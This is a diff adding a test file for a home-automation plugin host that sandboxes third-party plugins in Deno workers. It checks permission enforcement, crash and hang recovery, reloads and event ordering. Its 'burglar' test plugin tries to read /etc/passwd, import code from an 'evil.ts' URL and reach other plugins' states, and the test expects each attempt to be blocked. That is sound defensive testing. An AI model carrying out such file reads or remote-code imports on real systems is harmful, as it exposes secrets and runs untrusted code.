@@ -1,0 +1,297 @@
+/** Plugins of third parties in real workers. */
+import { writeFileSync } from "node:fs"
+import { hostname } from "node:os"
+import { join } from "node:path"
+import { Effect } from "effect"
+import { TestClock } from "effect/testing"
+import { describe, expect, it } from "vitest"
+import { HomeRegistries } from "../../../../protocols/ports/home-registries.ts"
+import { enforces, inHome, writePlugin } from "./plugins.ts"
+
+/** Tries what it may not do, and says in a state what came of each. */
+const burglar = `
+const attempts = {
+  readFile: () => Deno.readTextFile("/etc/passwd"),
+  nodeFile: async () => (await import("node:fs")).readFileSync("/etc/passwd", "utf8"),
+  variable: () => Deno.env.get("PATH"),
+  network: () => Deno.connect({ hostname: "127.0.0.1", port: 9 }),
+  program: () => new Deno.Command("true").output(),
+  writeOwn: () => Deno.writeTextFile(new URL("manifest.json", import.meta.url), "{}"),
+  remoteCode: () => import("https://example.org/evil.ts"),
+  worker: () => new Worker("data:text/javascript,", { type: "module", deno: { permissions: { read: true } } }),
+  otherState: () => home.states.set("light.lamp", "on"),
+  otherRead: () => home.states.get("sensor.private"),
+  otherService: () => home.services.call("light", "turn_on"),
+  otherEvent: () => home.events.on("secret_told", () => {}),
+  fire: () => home.events.fire("core_config_updated"),
+  device: () => home.registerDevice({ deviceId: "other-1", identifiers: [["other", "1"]] }),
+}
+let home
+const setup = async (given) => {
+  home = given
+  const outcomes = {}
+  for (const [name, attempt] of Object.entries(attempts)) {
+    try { await attempt(); outcomes[name] = "done" } catch (error) { outcomes[name] = error.name }
+  }
+  await home.states.set("burglar.outcome", "tried", outcomes)
+  return true
+}
+`
+
+const lamp = `
+import { brighter } from './brighter.ts'
+let level = 0
+const setup = async (home) => {
+  await home.registerDevice({ deviceId: "lamp-1", identifiers: [["lamp", "1"]], name: "Lamp" })
+  await home.registerEntity({ entityId: "lamp.one", uniqueId: "one", deviceId: "lamp-1" })
+  await home.states.set("lamp.one", "off", { level })
+  await home.services.register({
+    name: "dim",
+    description: "Sets the level.",
+    fields: { level: { required: true, selector: { number: { min: 0, max: 100 } } } },
+    target: { required: true, domains: ["lamp"] },
+    response: "optional",
+  }, async ({ context, data, entity_ids }) => {
+    if (data.level === 13) throw Object.assign(new Error("thirteen is no level"), { name: "ServiceValidationError" })
+    if (data.level === 99) throw new Error("fuse blown")
+    level = brighter(data.level)
+    for (const id of entity_ids) await home.states.set(id, level > 0 ? "on" : "off", { level }, { context })
+    return { level }
+  })
+  await home.events.on("state_changed", ({ data }) =>
+    data.new_state?.entity_id === "switch.main" && home.states.set("lamp.one", data.new_state.state, { level }))
+  home.onUpdate((ids) => home.states.set("lamp.one", "on", { level, updated: ids.length }))
+  console.log("lamp is ready")
+  return true
+}
+`
+const brighter = "export const brighter = (level: number): number => level"
+
+const failureOf = <A, E extends { readonly _tag: string; readonly message: string }, R>(
+  effect: Effect.Effect<A, E, R>,
+) => Effect.map(Effect.flip(effect), ({ _tag, message }) => `${_tag}: ${message}`)
+
+describe.runIf(enforces)("a plugin in a worker", () => {
+  it("can do nothing that its manifest does not permit", () =>
+    inHome({ burglar: { source: burglar } }, ({ host, replica }) =>
+      Effect.gen(function* () {
+        yield* host.start
+        const { attributes } = replica.one("burglar.outcome")!
+        expect(Object.values(attributes)).not.toContain("done")
+        expect(attributes).toMatchObject({
+          readFile: "NotCapable",
+          otherState: "RuntimeError",
+          otherRead: "RuntimeError",
+        })
+        expect(replica.one("light.lamp")).toBeNull()
+      })))
+
+  it("can do what its manifest permits", () =>
+    inHome({
+      guest: {
+        manifest: {
+          permissions: {
+            machine: { read: ["/etc/hostname"], write: ["./data"], env: ["PATH"] },
+            states: { read: ["sensor"], write: ["light"] },
+            services: ["lamp.*"],
+            events: { fire: ["guest_came"] },
+          },
+        },
+        source: `
+          export const setup = async (home) => {
+            await Deno.mkdir(new URL("./data", import.meta.url), { recursive: true })
+            await Deno.writeTextFile(new URL("./data/note", import.meta.url), "x")
+            const name = (await Deno.readTextFile("/etc/hostname")).trim()
+            await home.states.set("light.guest", "on", { name, path: Deno.env.get("PATH").length > 0 })
+            await home.events.fire("guest_came", { seen: (await home.states.all()).length })
+            return true
+          }`,
+      },
+    }, ({ heard, host, replica }) =>
+      Effect.gen(function* () {
+        yield* host.start
+        expect(host.views()).toContainEqual({ domain: "guest", status: "loaded", reason: null })
+        expect(replica.one("light.guest")).toMatchObject({ state: "on", attributes: { name: hostname(), path: true } })
+        expect(heard.some((entry) => entry.kind === "fired" && entry.event.eventType === "guest_came")).toBe(true)
+      })))
+
+  it("has entities, a device and services, whose calls are served under their context", () =>
+    inHome(
+      { lamp: { source: lamp } },
+      ({ call, folder, heard, host, registry, replica, until }) =>
+        Effect.gen(function* () {
+          writeFileSync(join(folder, "lamp", "brighter.ts"), brighter)
+          yield* host.start
+          expect(registry.describe()["lamp"]!["dim"]).toEqual({
+            description: "Sets the level.",
+            fields: { level: { required: true, selector: { number: { min: 0, max: 100 } } } },
+            target: { entity: [{ domain: ["lamp"] }] },
+            response: { optional: true },
+          })
+          expect(yield* call("lamp.dim", { level: "40", entity_id: "lamp.one" }, true)).toEqual({ level: 40 })
+          expect(replica.one("lamp.one")).toMatchObject({
+            state: "on",
+            attributes: { level: 40 },
+            context: { userId: "user-1" },
+          })
+          expect(yield* failureOf(call("lamp.dim", { level: 101, entity_id: "lamp.one" }))).toContain(
+            "InvalidServiceData",
+          )
+          expect(yield* failureOf(call("lamp.dim", { level: 13, entity_id: "lamp.one" }))).toBe(
+            "ServiceRefused: thirteen is no level",
+          )
+          expect(yield* failureOf(call("lamp.dim", { level: 99, entity_id: "lamp.one" }))).toBe(
+            "ServiceBroke: fuse blown",
+          )
+          yield* host.update(["lamp.one", "sensor.other"])
+          expect(replica.one("lamp.one")!.attributes).toEqual({ level: 40, updated: 1 })
+          expect(host.components()).toEqual(["lamp", "lamp.lamp"])
+          expect(heard.filter((entry) => entry.kind === "fired").map(({ event }) => event.eventType)).toEqual(
+            expect.arrayContaining(["service_registered", "component_loaded", "call_service"]),
+          )
+          yield* host.unload("lamp")
+          expect(replica.one("lamp.one")).toMatchObject({ state: "unavailable", attributes: { restored: true } })
+          expect(registry.describe()).not.toHaveProperty("lamp")
+          yield* until(() => replica.one("lamp.one")!.state === "unavailable")
+          const { entry } = (yield* (yield* HomeRegistries).list("entity"))[0]!
+          expect(entry).toMatchObject({ entityId: "lamp.one", platform: "lamp", deviceId: "lamp-1" })
+        }),
+    ))
+
+  it("that crashes ends, with its entities unavailable, and nothing else does", () =>
+    inHome({
+      crasher: {
+        source: `export const setup = async (home) => {
+          await home.states.set("crasher.one", "on", { friendly_name: "One", level: 3 })
+          await home.services.register({ name: "crash" }, () => { queueMicrotask(() => { throw new Error("gone") }); return new Promise(() => {}) })
+          return true
+        }`,
+      },
+      steady: { source: `export const setup = async (home) => (await home.states.set("steady.one", "on"), true)` },
+    }, ({ call, host, registry, replica, statusOf, until }) =>
+      Effect.gen(function* () {
+        yield* host.start
+        expect(yield* failureOf(call("crasher.crash"))).toContain("ServiceFailed: crasher has ended")
+        yield* until(() => statusOf("crasher") === "setup_retry")
+        expect(replica.one("crasher.one")).toMatchObject({
+          state: "unavailable",
+          attributes: { friendly_name: "One", restored: true },
+        })
+        expect(registry.has("crasher", "crash")).toBe(false)
+        expect([statusOf("steady"), replica.one("steady.one")!.state]).toEqual(["loaded", "on"])
+      })))
+
+  it("that sends what would end its reader is ended, and its reader is not", () =>
+    inHome({
+      nester: {
+        source: `export const setup = async (home) => {
+          await home.states.set("nester.one", "on")
+          await home.services.register({ name: "nest" }, () => {
+            let attributes = {}
+            for (let depth = 0; depth < 1000; depth++) attributes = { attributes }
+            return home.states.set("nester.one", "off", attributes)
+          })
+          return true
+        }`,
+      },
+    }, ({ call, host, replica, statusOf, until }) =>
+      Effect.gen(function* () {
+        yield* host.start
+        expect(yield* failureOf(call("nester.nest"))).toContain("nester has ended")
+        yield* until(() => statusOf("nester") === "setup_retry")
+        expect(replica.one("nester.one")!.state).toBe("unavailable")
+      })))
+
+  it("that hangs is ended, and tried again", () =>
+    inHome({
+      hanger: {
+        source: `export const setup = async (home) => {
+          await home.states.set("hanger.one", "on")
+          await home.services.register({ name: "hang" }, () => { for (;;); })
+          return true
+        }`,
+      },
+    }, ({ call, host, replica, statusOf, until }) =>
+      Effect.gen(function* () {
+        yield* host.start
+        yield* Effect.forkScoped(Effect.ignore(call("hanger.hang")))
+        yield* Effect.yieldNow
+        // Three pings: two that are not answered, and the one at which that is seen.
+        yield* TestClock.adjust("15 seconds")
+        yield* until(() => statusOf("hanger") === "setup_retry")
+        expect(replica.one("hanger.one")!.state).toBe("unavailable")
+        yield* TestClock.adjust("5 seconds")
+        yield* until(() => statusOf("hanger") === "loaded")
+        expect(replica.one("hanger.one")!.state).toBe("on")
+      }).pipe(Effect.provide(TestClock.layer()))))
+
+  it("is reloaded from its files", () =>
+    inHome({
+      changing: { source: `export const setup = async (home) => (await home.states.set("changing.v", "1"), true)` },
+    }, (
+      { folder, host, replica },
+    ) =>
+      Effect.gen(function* () {
+        yield* host.start
+        expect(replica.one("changing.v")!.state).toBe("1")
+        writePlugin(folder, "changing", {
+          manifest: { version: "1.1.0" },
+          source: `export const setup = async (home) => (await home.states.set("changing.v", "2"), true)`,
+        })
+        yield* host.reload("changing")
+        expect(replica.one("changing.v")!.state).toBe("2")
+        expect(host.manifests()).toContainEqual(expect.objectContaining({ domain: "changing", version: "1.1.0" }))
+        expect(yield* failureOf(host.load("changing"))).toContain("AlreadyLoaded")
+      })))
+
+  it("hears events in order, bounded, and is told what it missed", () =>
+    inHome({
+      slow: {
+        manifest: { permissions: { events: { subscribe: ["tick"] } } },
+        source: `
+          const seen = []
+          let missed = 0
+          let go
+          const gate = new Promise((resolve) => go = resolve)
+          export const setup = async (home) => {
+            await home.events.on("tick", async ({ data }, dropped) => { await gate; seen.push(data.n); missed += dropped })
+            await home.services.register({ name: "go" }, () => go())
+            await home.services.register({ name: "seen", response: "only" }, () => ({ first: seen[0] ?? null, last: seen.at(-1) ?? null, count: seen.length, missed, ordered: seen.every((n, i) => i === 0 || n > seen[i - 1]) }))
+            return true
+          }`,
+      },
+    }, ({ call, host, until }) =>
+      Effect.gen(function* () {
+        const { HomeRuntime } = yield* Effect.promise(() => import("../../../../protocols/ports/home-runtime.ts"))
+        const runtime = yield* HomeRuntime
+        yield* host.start
+        const context = yield* runtime.context(null)
+        for (let n = 0; n < 2_000; n++) {
+          yield* runtime.fire({ eventType: "tick", data: { n }, origin: "LOCAL", context })
+        }
+        yield* call("slow.go")
+        let answer: Readonly<Record<string, unknown>> | null = null
+        const ask = Effect.gen(function* () {
+          answer = yield* call("slow.seen", {}, true)
+        })
+        yield* Effect.repeat(ask, { until: () => answer?.["last"] === 1_999 })
+        expect(answer).toMatchObject({
+          first: 0,
+          last: 1_999,
+          count: 32 + 1_024,
+          missed: 2_000 - 32 - 1_024,
+          ordered: true,
+        })
+        yield* until(() => true)
+      })))
+})
+
+describe.runIf(!enforces)("a plugin on a runtime that cannot hold it to its permissions", () => {
+  it("is refused, with the reason", () =>
+    inHome({ lamp: { source: lamp } }, ({ host, replica }) =>
+      Effect.gen(function* () {
+        yield* host.start
+        expect(yield* failureOf(host.load("lamp"))).toMatch(/SetupFailed: lamp: this runtime cannot hold a plugin/)
+        expect(replica.all()).toEqual([])
+      })))
+})
